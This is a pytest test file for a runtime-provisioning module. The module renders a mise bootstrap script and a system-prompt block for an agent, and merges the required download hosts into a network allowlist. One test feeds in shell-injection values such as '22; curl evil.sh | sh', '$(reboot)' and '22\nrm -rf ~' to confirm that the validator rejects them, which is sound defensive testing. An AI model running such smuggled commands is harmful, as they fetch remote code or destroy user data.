"""Declared runtimes: bootstrap script, system-prompt block, required hosts, wire config (V-29, V-47…V-51)."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from returns.result import Failure, Success

from rma.provisioning import EnvironmentSpec, InvalidSpec, Runtime, SpecError
from rma.provisioning.runtimes import (
    MARKER,
    Bootstrap,
    bootstrap,
    bootstrap_script,
    mise_specs,
    required_hosts,
    system_prompt_block,
    validate,
    wire_config,
)

BEAM_AND_PYTHON: list[dict[str, Any]] = [
    {"lang": "python", "version": "3.12"},
    {"lang": "elixir", "version": "1.17.3", "via": "mise"},
    {"lang": "erlang", "version": "27.1.2"},
]

GOLDEN_SCRIPT = """\
#!/usr/bin/env bash
# rma runtime bootstrap: erlang@27.1.2 elixir@1.17.3-otp-27 python@3.12 via mise. Safe to re-run.
set -euo pipefail
export LANG=C.UTF-8 LC_ALL=C.UTF-8
export PATH="$HOME/.local/bin:$HOME/.local/share/mise/shims:$PATH"
if ! command -v mise >/dev/null 2>&1; then
  curl -fsSL https://mise.jdx.dev/install.sh | sh
fi
mise use --global erlang@27.1.2
mise use --global elixir@1.17.3-otp-27
mise use --global python@3.12
mise install
if ! grep -qF 'mise activate-rma' "$HOME/.bashrc" 2>/dev/null; then
  cat >> "$HOME/.bashrc" <<'RMA_MISE_ACTIVATE'
# >>> mise activate-rma >>>
export LANG=C.UTF-8 LC_ALL=C.UTF-8
export PATH="$HOME/.local/bin:$HOME/.local/share/mise/shims:$PATH"
# <<< mise activate-rma <<<
RMA_MISE_ACTIVATE
fi
"""

MISE_HOSTS = [
    "github.com",
    "mise-versions.jdx.dev",
    "mise.jdx.dev",
    "objects.githubusercontent.com",
    "release-assets.githubusercontent.com",
]


# --- validate (V-47) ------------------------------------------------------------------------


def test_V47_validate_returns_runtime_values_or_the_first_error_with_its_path() -> None:
    assert validate([{"lang": "node", "version": "22.11.0"}]) == Success((Runtime("node", "22.11.0"),))
    bad = validate([{"lang": "node", "version": "22"}, {"lang": "go", "version": "1 2"}])
    assert isinstance(bad, Failure)
    assert isinstance(bad.failure(), InvalidSpec)
    assert bad.failure().path == "runtimes[1].version"
    not_a_list = validate("node@22")
    assert isinstance(not_a_list, Failure)
    assert not_a_list.failure().path == "runtimes"


# --- bootstrap_script (V-48, V-49) ----------------------------------------------------------


def test_V48_the_script_is_pinned_byte_for_byte() -> None:
    assert bootstrap_script(BEAM_AND_PYTHON) == GOLDEN_SCRIPT


def test_V48_the_script_has_strict_mode_utf8_conditional_install_path_and_the_marker_block() -> None:
    script = bootstrap_script([{"lang": "node", "version": "22.11.0"}])
    lines = script.splitlines()
    assert lines[0] == "#!/usr/bin/env bash"
    assert "set -euo pipefail" in lines
    assert "export LANG=C.UTF-8 LC_ALL=C.UTF-8" in lines
    assert "if ! command -v mise >/dev/null 2>&1; then" in lines
    assert 'export PATH="$HOME/.local/bin:$HOME/.local/share/mise/shims:$PATH"' in lines
    assert lines.count("mise use --global node@22.11.0") == 1
    assert lines.index("mise install") > lines.index("mise use --global node@22.11.0")
    assert f"if ! grep -qF '{MARKER}' \"$HOME/.bashrc\" 2>/dev/null; then" in lines
    assert MARKER == "mise activate-rma"


def test_V49_erlang_then_elixir_built_for_its_otp_major_then_the_rest_in_input_order() -> None:
    runtimes = [
        {"lang": "node", "version": "22"},
        {"lang": "elixir", "version": "1.17.3"},
        {"lang": "python", "version": "3.12"},
        {"lang": "erlang", "version": "26.2.5"},
    ]
    assert mise_specs(runtimes) == ["erlang@26.2.5", "elixir@1.17.3-otp-26", "node@22", "python@3.12"]


def test_V49_elixir_without_erlang_renders_plainly() -> None:
    assert mise_specs([{"lang": "elixir", "version": "1.17.3"}]) == ["elixir@1.17.3"]


def test_V49_mappings_and_runtime_values_render_identically() -> None:
    as_values = [Runtime(r["lang"], r["version"]) for r in BEAM_AND_PYTHON]
    assert bootstrap_script(as_values) == bootstrap_script(BEAM_AND_PYTHON)
    assert system_prompt_block(as_values) == system_prompt_block(BEAM_AND_PYTHON)


@pytest.mark.parametrize(
    "entry",
    [
        {"lang": "node", "version": "22; curl evil.sh | sh"},
        {"lang": "node", "version": "$(reboot)"},
        {"lang": "node", "version": "22\nrm -rf ~"},
        {"lang": "node", "version": "`id`"},
        {"lang": "node", "version": "-rf"},
        {"lang": "node", "version": "'22'"},
        {"lang": "no de", "version": "22"},
        {"lang": "node", "version": "22", "via": "apt"},
        {"lang": "node", "version": "22", "extra": "x"},
    ],
)
def test_V49_an_entry_that_could_inject_shell_raises_before_anything_is_rendered(
    entry: dict[str, str],
) -> None:
    for render in (bootstrap_script, system_prompt_block, required_hosts, mise_specs):
        with pytest.raises(SpecError) as caught:
            render([entry])
        assert caught.value.error.path.startswith("runtimes[0]")


def test_V49_a_language_declared_twice_raises() -> None:
    with pytest.raises(SpecError):
        bootstrap_script([{"lang": "node", "version": "22"}, {"lang": "node", "version": "20"}])


def _fake_bin(directory: Path, name: str, body: str) -> None:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / name
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(0o755)


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_V48_the_script_runs_installs_mise_only_when_absent_and_appends_the_block_once(
    tmp_path: Path,
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    calls = tmp_path / "calls.log"
    fake_mise = f'echo "mise $*" >> {calls}\n'
    # A fake curl serves an "installer" that drops the fake mise into ~/.local/bin.
    installer = (
        f"mkdir -p \"$HOME/.local/bin\"; printf '%s' '#!/bin/sh\n{fake_mise}' > \"$HOME/.local/bin/mise\";"
        ' chmod +x "$HOME/.local/bin/mise"'
    )
    tools = tmp_path / "tools"
    _fake_bin(tools, "curl", f"echo \"curl $*\" >> {calls}\ncat <<'EOF'\n{installer}\nEOF\n")
    script = tmp_path / "bootstrap.sh"
    script.write_text(bootstrap_script(BEAM_AND_PYTHON))
    env = {"HOME": str(home), "PATH": f"{tools}:/usr/bin:/bin"}
    for _ in range(2):
        done = subprocess.run(
            ["bash", str(script)], env=env, capture_output=True, text=True, timeout=30, check=False
        )
        assert done.returncode == 0, done.stderr
    log = calls.read_text().splitlines()
    assert log[0] == "curl -fsSL https://mise.jdx.dev/install.sh"
    assert [line for line in log if line.startswith("curl")] == [log[0]]  # second run: mise present
    assert log[1:5] == [
        "mise use --global erlang@27.1.2",
        "mise use --global elixir@1.17.3-otp-27",
        "mise use --global python@3.12",
        "mise install",
    ]
    assert log[5:] == log[1:5]  # the re-run repeats the idempotent mise calls only
    bashrc = (home / ".bashrc").read_text()
    assert bashrc.count(f"# >>> {MARKER} >>>") == 1
    assert 'export PATH="$HOME/.local/bin:$HOME/.local/share/mise/shims:$PATH"' in bashrc
    assert os.access(home / ".local" / "bin" / "mise", os.X_OK)


# --- system_prompt_block (V-50) --------------------------------------------------------------


def test_V50_the_block_names_each_runtime_says_not_preinstalled_once_via_bash_and_embeds_the_script() -> None:
    block = system_prompt_block(BEAM_AND_PYTHON)
    assert "erlang 27.1.2, elixir 1.17.3, python 3.12" in block
    assert "NOT preinstalled" in block
    assert "EXACTLY ONCE via bash" in block
    assert "before the first command that needs" in block.lower()
    assert block.endswith("```bash\n" + GOLDEN_SCRIPT + "```\n")
    assert block == system_prompt_block(list(BEAM_AND_PYTHON))  # deterministic


def test_V50_no_runtimes_no_block_and_no_bootstrap() -> None:
    assert system_prompt_block([]) == ""
    assert bootstrap([]) is None


def test_V30_bootstrap_pairs_the_script_with_its_instructions() -> None:
    assert bootstrap(BEAM_AND_PYTHON) == Bootstrap(
        script=GOLDEN_SCRIPT, instructions=system_prompt_block(BEAM_AND_PYTHON)
    )


# --- required_hosts (V-51) -------------------------------------------------------------------


def test_V51_no_runtimes_need_no_hosts() -> None:
    assert required_hosts([]) == []


def test_V51_every_mise_runtime_needs_mise_and_github_release_hosts() -> None:
    assert required_hosts([{"lang": "python", "version": "3.12"}]) == MISE_HOSTS
    assert required_hosts([{"lang": "zig", "version": "0.13.0"}]) == MISE_HOSTS


def test_V51_beam_runtimes_add_hex_hosts_sorted_and_deduplicated() -> None:
    hosts = required_hosts(BEAM_AND_PYTHON)
    assert hosts == sorted({*MISE_HOSTS, "builds.hex.pm", "repo.hex.pm"})
    assert len(hosts) == len(set(hosts))


def test_V51_language_rows_add_their_download_hosts() -> None:
    assert "nodejs.org" in required_hosts([{"lang": "node", "version": "22"}])
    assert {"dl.google.com", "go.dev"} <= set(required_hosts([{"lang": "go", "version": "1.23.1"}]))


# --- wire_config (V-29) ----------------------------------------------------------------------


def _env(config: dict[str, Any], runtimes: list[dict[str, Any]] | None = None) -> EnvironmentSpec:
    return EnvironmentSpec.create(config=config, runtimes=runtimes or []).unwrap()


def test_V29_limited_networking_gets_the_hosts_existing_first_deduplicated() -> None:
    spec = _env(
        {
            "type": "cloud",
            "networking": {"type": "limited", "allowed_hosts": ["pypi.org", "github.com", "pypi.org"]},
        },
        [{"lang": "erlang", "version": "27.1.2"}],
    )
    hosts = wire_config(spec)["networking"]["allowed_hosts"]
    assert hosts[:2] == ["pypi.org", "github.com"]
    assert hosts[2:] == [h for h in required_hosts(spec.runtimes) if h != "github.com"]
    assert len(hosts) == len(set(hosts))


def test_V29_the_merge_uses_the_key_style_the_networking_map_already_uses() -> None:
    runtimes = [{"lang": "node", "version": "22"}]
    camel = wire_config(_env({"networking": {"type": "limited", "allowMcpServers": True}}, runtimes))
    assert "allowedHosts" in camel["networking"]
    assert "allowed_hosts" not in camel["networking"]
    existing = wire_config(_env({"networking": {"type": "limited", "allowedHosts": ["a.example"]}}, runtimes))
    assert existing["networking"]["allowedHosts"][0] == "a.example"
    snake = wire_config(_env({"networking": {"type": "limited"}}, runtimes))
    assert snake["networking"]["allowed_hosts"] == required_hosts(runtimes)


def test_V29_a_flat_networking_key_is_merged_too() -> None:
    spec = EnvironmentSpec.coerce(
        {"type": "cloud", "networking": {"type": "limited"}, "runtimes": [{"lang": "node", "version": "22"}]}
    ).unwrap()
    assert "nodejs.org" in wire_config(spec)["networking"]["allowed_hosts"]


@pytest.mark.parametrize(
    "config",
    [
        {"type": "cloud", "networking": {"type": "unrestricted"}},
        {"type": "cloud"},
        {},
        {"type": "cloud", "networking": {"type": "limited", "allowed_hosts": "pypi.org"}},
    ],
)
def test_V29_unrestricted_absent_or_malformed_networking_is_left_untouched(config: dict[str, Any]) -> None:
    assert wire_config(_env(config, [{"lang": "node", "version": "22"}])) == config


def test_V29_runtimes_never_go_on_the_wire_and_the_spec_is_not_mutated() -> None:
    config = {"type": "cloud", "networking": {"type": "limited", "allowed_hosts": ["pypi.org"]}}
    spec = _env(config, [{"lang": "node", "version": "22"}])
    wired = wire_config(spec)
    assert "runtimes" not in wired
    assert spec.config == config
    assert wire_config(_env(config)) == config  # no runtimes: nothing merged
